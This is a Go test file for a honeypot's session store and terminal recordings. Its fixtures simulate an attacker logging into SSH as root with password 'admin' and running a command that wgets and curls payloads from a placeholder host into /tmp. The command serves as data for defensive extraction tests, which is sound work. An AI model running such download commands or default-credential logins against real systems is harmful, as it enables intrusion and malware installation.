@@ -0,0 +1,118 @@
+package sessions
+
+import (
+	"encoding/json"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/riotpot/pkg/events"
+	"github.com/riotpot/pkg/sessions"
+	"github.com/stretchr/testify/assert"
+)
+
+func sessionEvents() []*events.Event {
+	start := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
+
+	connect := events.NewEvent(events.ConnectionEvent, "", "203.0.113.7:51234").With("hassh", "ec7378c1a92f5a8dde7e8b7a1ddf33d1")
+	auth := events.NewEvent(events.AuthEvent, "SSH", "203.0.113.7:51234").With("user", "root").With("password", "admin").With("success", true)
+	command := events.NewEvent(events.CommandEvent, "SSH", "203.0.113.7:51234").With("command", "cd /tmp; wget http://198.51.100.1/bins/x86; curl -O https://198.51.100.1/x.sh")
+	disconnect := events.NewEvent(events.DisconnectionEvent, "", "203.0.113.7:51234")
+
+	evs := []*events.Event{connect, auth, command, disconnect}
+	for ind, ev := range evs {
+		ev.Session = "a1b2"
+		ev.Destination = "192.0.2.1:22"
+		ev.Time = start.Add(time.Duration(ind) * time.Second)
+	}
+	return evs
+}
+
+func TestStore(t *testing.T) {
+	store := sessions.NewStore(2)
+	store.Load(sessionEvents())
+
+	s, err := store.GetSession("a1b2")
+	assert.NoError(t, err)
+
+	assert.Equal(t, "203.0.113.7", s.GetSourceIP())
+	assert.Equal(t, []string{"SSH"}, s.Services)
+	assert.Equal(t, 4, s.Events)
+	assert.Equal(t, 3*time.Second, s.End.Sub(s.Start))
+	assert.True(t, s.Closed)
+	assert.Equal(t, []sessions.Credential{{Service: "SSH", User: "root", Password: "admin", Success: true}}, s.Credentials)
+	assert.Equal(t, []string{"http://198.51.100.1/bins/x86", "https://198.51.100.1/x.sh"}, s.URLs)
+	assert.Equal(t, "ec7378c1a92f5a8dde7e8b7a1ddf33d1", s.Fingerprints["hassh"])
+
+	// Events without a session are grouped by their source
+	store.Send(events.NewEvent(events.AuthEvent, "Telnet", "198.51.100.9:4000"))
+	assert.Len(t, store.GetSessions(time.Time{}), 2)
+
+	// The oldest session is forgotten when the store is full
+	store.Send(events.NewEvent(events.AuthEvent, "Telnet", "198.51.100.10:4000"))
+	_, err = store.GetSession("a1b2")
+	assert.Error(t, err)
+
+	// Filter by the last activity
+	assert.Len(t, store.GetSessions(time.Now().Add(-time.Minute)), 2)
+	assert.Empty(t, store.GetSessions(time.Now().Add(time.Minute)))
+}
+
+func TestEventsFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "events.jsonl")
+
+	sink, err := events.NewFileSink(path)
+	assert.NoError(t, err)
+	for _, ev := range sessionEvents() {
+		assert.NoError(t, sink.Send(ev))
+	}
+	assert.NoError(t, sink.Close())
+
+	evs, err := events.LoadEvents(path)
+	assert.NoError(t, err)
+	assert.Len(t, evs, 4)
+
+	store := sessions.NewStore(10)
+	store.Load(evs)
+
+	s, err := store.GetSession("a1b2")
+	assert.NoError(t, err)
+	assert.Equal(t, "admin", s.Credentials[0].Password)
+	assert.Len(t, s.URLs, 2)
+}
+
+func TestRecordings(t *testing.T) {
+	store := sessions.NewRecordings(2, 200)
+
+	r := store.Record("a1b2", 120, 40, nil)
+	assert.Same(t, r, store.Record("a1b2", 80, 24, nil))
+	r.Write(sessions.InputKind, []byte("id\r\n"))
+	r.Write(sessions.OutputKind, []byte("uid=0(root)\xff\r\n"))
+
+	cast, err := store.GetRecording("a1b2")
+	assert.NoError(t, err)
+	lines := strings.Split(strings.TrimSpace(string(cast)), "\n")
+	assert.Len(t, lines, 3)
+
+	var header map[string]interface{}
+	assert.NoError(t, json.Unmarshal([]byte(lines[0]), &header))
+	assert.Equal(t, float64(2), header["version"])
+	assert.Equal(t, float64(120), header["width"])
+
+	var ev []interface{}
+	assert.NoError(t, json.Unmarshal([]byte(lines[2]), &ev))
+	assert.Equal(t, "o", ev[1])
+	assert.Equal(t, "uid=0(root)�\r\n", ev[2])
+
+	// The events past the maximum size are not recorded
+	r.Write(sessions.OutputKind, []byte(strings.Repeat("a", 200)))
+	r.Write(sessions.OutputKind, []byte("b"))
+	assert.Equal(t, cast, r.Bytes())
+
+	// The oldest recording is forgotten when the store is full
+	store.Record("c3d4", 80, 24, nil)
+	store.Record("e5f6", 80, 24, nil)
+	_, err = store.GetRecording("a1b2")
+	assert.Error(t, err)
+}